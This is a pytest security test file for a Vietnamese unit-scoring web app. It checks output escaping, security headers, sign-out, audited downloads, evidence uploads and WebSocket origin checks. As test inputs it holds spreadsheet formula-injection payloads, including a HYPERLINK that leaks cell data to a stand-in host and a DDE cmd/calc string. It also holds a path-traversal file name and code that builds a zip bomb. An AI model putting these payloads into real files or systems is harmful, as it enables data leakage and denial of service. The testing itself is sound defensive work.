"""Security probes of the round and the deployment (issue 22), by class; each kept and run again."""

from __future__ import annotations

import ast
import base64
import inspect
import io
import json
import os
import re
import socket
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from scoring import round_views, views
from scoring.access import Actor, Role, operator
from scoring.accounts import Accounts
from scoring.engine import rate
from scoring.framework import UNIT, load_preset
from scoring.presentation import AUDIT_ACTIONS, literal, markdown
from scoring.report import ReportSettings, report_bytes
from scoring.round_files import round_workbook
from scoring.rounds import RoundError, Rounds, key, year_data_of
from scoring.store import Store
from scoring.text import inert
from tests.servers import app_server
from tests.signing import add_account
from tests.test_browser import TITLES, heading, open_page, signed_in

ROOT = Path(__file__).resolve().parents[1]

# ---------------------------------------------------------------- 1. typed text is never markup

# Streamlit draws these arguments as Markdown (labels included: they take links and images).
TEXT_CALLS = {
    "markdown",
    "write",
    "caption",
    "info",
    "warning",
    "error",
    "success",
    "toast",
    "title",
    "header",
    "subheader",
    "expander",
    "popover",
    "button",
    "download_button",
    "link_button",
    "checkbox",
    "radio",
    "metric",
    "form_submit_button",
    "text_input",
    "text_area",
    "selectbox",
    "multiselect",
    "number_input",
    "date_input",
    "file_uploader",
    "toggle",
    "select_slider",
    "status",
    "spinner",
    "update",
    "segmented_control",
    "pills",
}
TEXT_KEYWORDS = {"label", "body", "help"}
# The library's Markdown builders, each made of `markdown()` only (checked below).
BUILDERS = {
    "markdown",
    "markdown_list",
    "literal",
    "question_text",
    "completion_text",
    "running_totals",
    "superior_note",
    "publishing_text",
    "opening_text",
    "framework_rules_text",
}


def _safe(node: ast.AST) -> bool:
    """Text written in the code, or built by `markdown()` (every value shown as its characters)."""
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.Call):
        func = node.func
        return (func.id if isinstance(func, ast.Name) else getattr(func, "attr", None)) in BUILDERS
    if isinstance(node, ast.IfExp):
        return _safe(node.body) and _safe(node.orelse)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _safe(node.left) and _safe(node.right)
    if isinstance(node, ast.Name):  # a constant of the module
        return node.id.isupper()
    if isinstance(node, ast.Subscript):  # a label of a constant table: TIER_SHORT[tier]
        value = node.value
        return (value.id if isinstance(value, ast.Name) else getattr(value, "attr", "")).isupper()
    return False


def _text_arguments(path: Path):
    lines = path.read_text("utf-8").splitlines()
    for node in ast.walk(ast.parse(path.read_text("utf-8"))):
        if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr in TEXT_CALLS):
            continue
        for argument in [*node.args[:1], *(k.value for k in node.keywords if k.arg in TEXT_KEYWORDS)]:
            marked = any("# text:" in lines[n - 1] for n in range(node.lineno, node.end_lineno + 1))
            yield f"{path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(argument)[:80]}", _safe(argument) or marked


def test_every_text_a_page_draws_is_written_in_the_code_or_built_by_markdown():
    unsafe = [
        where
        for path in [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py"))]
        for where, safe in _text_arguments(path)
        if not safe
    ]
    assert not unsafe, "\n".join(unsafe)


def test_the_markdown_builders_put_values_in_through_markdown_only():
    for module in (round_views, views):
        for name in BUILDERS & set(dir(module)):
            tree = ast.parse(inspect.getsource(getattr(module, name)).strip())
            assert not [
                n
                for n in ast.walk(tree)
                if isinstance(n, ast.JoinedStr) and any(isinstance(v, ast.FormattedValue) for v in n.values)
            ], name


def test_markdown_shows_every_value_as_its_characters():
    probe = "![o](/_danvan/dang-xuat) <img src=x> **đậm** [liên kết](https://x.vn) :red[đỏ] $x$"
    shown = markdown("Trả lời: {}", probe)
    assert re.sub(r"\\(.)", r"\1", shown) == "Trả lời: " + probe  # every character kept …
    assert not re.search(r"(?<!\\)[!\[\]()<>*:$]", shown.removeprefix("Trả lời: "))  # … none of them markup
    assert literal("a\nb") == "a b"
    assert markdown("{:%d/%m/%Y}", __import__("datetime").date(2026, 12, 5)) == "05/12/2026"


# ---------------------------------------------------------------- in the browser: headers, sign-out, typed text


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    url = f"sqlite:///{tmp_path_factory.mktemp('security') / 'security.sqlite'}"
    with app_server(url, seed=True) as base:
        yield base, url


def _violations(page) -> list[str]:
    found: list[str] = []
    page.on("console", lambda m: found.append(m.text) if "Content Security Policy" in m.text else None)
    return found


def test_every_response_carries_the_security_headers_and_pages_keep_to_them(site, browser):
    base, url = site
    context = signed_in(browser, base, url, "canbo", "can_bo")
    page = context.new_page()
    violations = _violations(page)
    response = page.goto(f"{base}/")
    headers = response.headers
    policy = headers["content-security-policy"]
    for directive in (
        "default-src 'self'",
        "img-src 'self' data: blob:",
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "object-src 'none'",
    ):
        assert directive in policy, directive
    assert "unsafe-eval" not in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert headers["x-frame-options"] == "DENY" and headers["x-content-type-options"] == "nosniff"
    assert "content-security-policy" in page.request.get(f"{base}/_stcore/health").headers
    for path in ("", "xep-hang", "don-vi", "xu-huong", "tieu-chi"):  # charts, tables, editors
        page.goto(f"{base}/{path}")
        page.wait_for_selector("h1", timeout=90_000)
        page.wait_for_timeout(2500)
    assert not violations, violations[:5]
    context.close()


def test_signing_out_is_a_post_with_the_cookies_proof(site, browser):
    base, url = site
    context = signed_in(browser, base, url, "canbo", "can_bo")
    page = open_page(context, base, "xep-hang")
    page.request.get(f"{base}/_danvan/dang-xuat")  # a link or an image signs nobody out (the app's page answers)
    assert page.request.post(f"{base}/_danvan/dang-xuat?ma=sai").status == 200  # nor a post without the proof
    assert [c for c in context.cookies() if c["name"] == "danvan_phien"]
    page.reload()
    assert heading(page) == TITLES["xep-hang"]
    page.get_by_role("button", name="Đăng xuất").click()
    page.get_by_role("heading", name="Đăng nhập", level=1).wait_for(timeout=60_000)
    assert not [c for c in context.cookies() if c["name"] == "danvan_phien"]  # cleared by the POST route
    context.close()


# ---------------------------------------------------------------- 3. no formulas from users in any file we write

FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"Bấm")', "+1+1 Chi bộ", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0"]


def test_every_writer_keeps_typed_formulas_as_text(tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'formulas.sqlite'}")
    rounds, officer, fw = Rounds(store), operator("kiểm thử"), load_preset()
    roster = pd.DataFrame({"code": ["DVA"], "name": [FORMULAS[1]], "cluster": [FORMULAS[2]]})
    soon = datetime.now(UTC) + timedelta(days=10)
    rounds.open(officer, 2026, fw, roster, soon, soon + timedelta(days=5))
    unit = Actor("dva", Role.UNIT, "DVA")
    rounds.save_draft(
        unit,
        2026,
        "DVA",
        {key(c.target, c.code): float(c.max_points) for c in fw.criteria},
        {key(UNIT, "1.1"): FORMULAS[3]},
        {"name": FORMULAS[0], "title": FORMULAS[3]},
    )
    rounds.submit(unit, 2026, "DVA")
    exported = round_workbook(rounds, officer, 2026)
    data = year_data_of(2026, *rounds.snapshot(officer, 2026))
    report = report_bytes(rate(data, fw), settings=ReportSettings(issuing_body=FORMULAS[0], place=FORMULAS[2]))
    for name, content in (("round workbook", exported), ("report", report)):
        texts, formulas = _cells(content)
        assert not [f for f in formulas if any(t in f for t in ("HYPERLINK", "cmd", "A1:A9", "+1+1"))], name
        assert {FORMULAS[0], FORMULAS[1]} <= texts, (name, sorted(t for t in texts if t[:1] in "=+@-"))
    assert [inert(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]  # CSV and tables: behind an apostrophe
    assert [inert(t) for t in ("-1,50", "+5", "Chi bộ A", 3.5)] == ["-1,50", "+5", "Chi bộ A", 3.5]


def _cells(content: bytes) -> tuple[set[str], list[str]]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    return {c.value for c in cells if c.data_type != "f"}, [c.value for c in cells if c.data_type == "f"]


def test_tables_sent_to_the_browser_hold_formulas_as_text(tmp_path, monkeypatch):
    from tests.test_dashboard import as_role, visit

    url = as_role(tmp_path, monkeypatch, "canbo", "can_bo")
    roster = pd.DataFrame({"code": ["DVA", "DVB"], "name": [FORMULAS[0], "Chi bộ B"], "cluster": ["Khối 1"] * 2})
    soon = datetime.now(UTC) + timedelta(days=10)
    rounds, fw, unit = Rounds(Store(url)), load_preset(), Actor("dva", Role.UNIT, "DVA")
    rounds.open(operator("kiểm thử"), 2026, fw, roster, soon, soon)
    rounds.save_draft(
        unit,
        2026,
        "DVA",
        {key(c.target, c.code): float(c.max_points) for c in fw.criteria},
        {key(UNIT, "1.1"): FORMULAS[3]},
        {"name": "Nguyễn Văn A", "title": "Bí thư"},
    )
    rounds.submit(unit, 2026, "DVA")
    at = visit("tham_dinh")
    board = at.dataframe[0].value  # what the table's "Tải về tệp CSV" writes
    assert board["Tên đơn vị"].tolist() == ["'" + FORMULAS[0], "Chi bộ B"]
    editor = next(d.value for d in at.dataframe if "Thuyết minh" in d.value.columns)  # not typed on this page
    assert "'" + FORMULAS[3] in editor["Thuyết minh"].tolist()


# ---------------------------------------------------------------- 2. downloads checked when they are served


def test_a_download_is_checked_and_audited_when_it_is_served(site, browser):
    base, url = site
    add_account(url, "quantri2", "quan_tri")  # a second administrator, who demotes the first
    context = signed_in(browser, base, url, "qt-tai", "quan_tri")
    page = open_page(context, base, "tai-khoan")
    link = page.get_by_role("link", name="Tải bản sao lưu")
    link.wait_for(timeout=60_000)
    href = base + link.get_attribute("href")
    with page.expect_download(timeout=60_000) as download:
        link.click()
    assert json.loads(Path(download.value.path()).read_text("utf-8"))["tables"]
    log = Store(url).audit(5)
    assert ("qt-tai", "download") in set(zip(log["who"], log["action"]))
    outsider = browser.new_context()  # the link without the cookie
    assert outsider.request.get(href).status == 403
    outsider.close()
    admins = Accounts(Store(url))
    admins.set_role(Actor("quantri2", Role.ADMIN), "qt-tai", "can_bo")  # the tab stays open, the role is gone
    refused = page.request.get(href)
    assert refused.status == 403 and "Không tải được tệp" in refused.text()
    context.close()


# ---------------------------------------------------------------- 9. evidence files


def test_evidence_names_are_cleaned_and_office_bombs_refused(tmp_path):
    store = Store(f"sqlite:///{tmp_path / 'evidence.sqlite'}")
    rounds, fw = Rounds(store), load_preset()
    roster = pd.DataFrame({"code": ["DVA"], "name": ["Chi bộ A"], "cluster": ["Khối 1"]})
    soon = datetime.now(UTC) + timedelta(days=10)
    rounds.open(operator("kiểm thử"), 2026, fw, roster, soon, soon)
    unit = Actor("dva", Role.UNIT, "DVA")
    rounds.add_evidence(unit, 2026, "DVA", "../../biên\x00bản\\họp\n.pdf", "%PDF-1.4 biên bản".encode())
    assert [e["name"] for e in rounds.sheet(unit, 2026, "DVA").files] == ["_.._biên_bản_họp .pdf"]
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w") as member:
            for _ in range(120):
                member.write(b"\0" * 2**20)  # 120 MB unpacked, a few hundred KB packed
    with pytest.raises(RoundError, match="zip bomb"):
        rounds.add_evidence(unit, 2026, "DVA", "bao_cao.docx", bomb.getvalue())
    assert len(rounds.sheet(unit, 2026, "DVA").files) == 1


def _handshake(base: str, origin: str) -> int:
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as raw:
        raw.sendall(
            (
                f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
                f"Connection: Upgrade\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n"
                f"Sec-WebSocket-Version: 13\r\nOrigin: {origin}\r\n\r\n"
            ).encode()
        )
        return int(raw.recv(1024).split(b" ", 2)[1])


def test_the_app_server_opens_a_websocket_for_its_own_origin_only(site):
    base, _ = site
    host, port = base.rsplit(":", 1)
    assert _handshake(base, base) == 101
    for other in ("http://evil.example", f"{host}:{int(port) + 1}", "https://127.0.0.1"):
        assert _handshake(base, other) == 403, other


# ---------------------------------------------------------------- 5. an audit log people can read


def test_every_action_written_to_the_audit_log_has_a_vietnamese_name():
    """Tài khoản shows and filters the log by these names: an action without one would show its code."""
    written = {
        m
        for path in [*(ROOT / "scoring").rglob("*.py"), *(ROOT / "pages").glob("*.py")]
        for m in re.findall(r'(?:record\(conn, [^,]+|_change\(actor, [^,]+), "([a-z_]+)"', path.read_text("utf-8"))
    }
    assert {"round_open", "sign_in", "download", "account_unlock", "setting"} <= written  # the scan finds them
    assert not written - set(AUDIT_ACTIONS), sorted(written - set(AUDIT_ACTIONS))
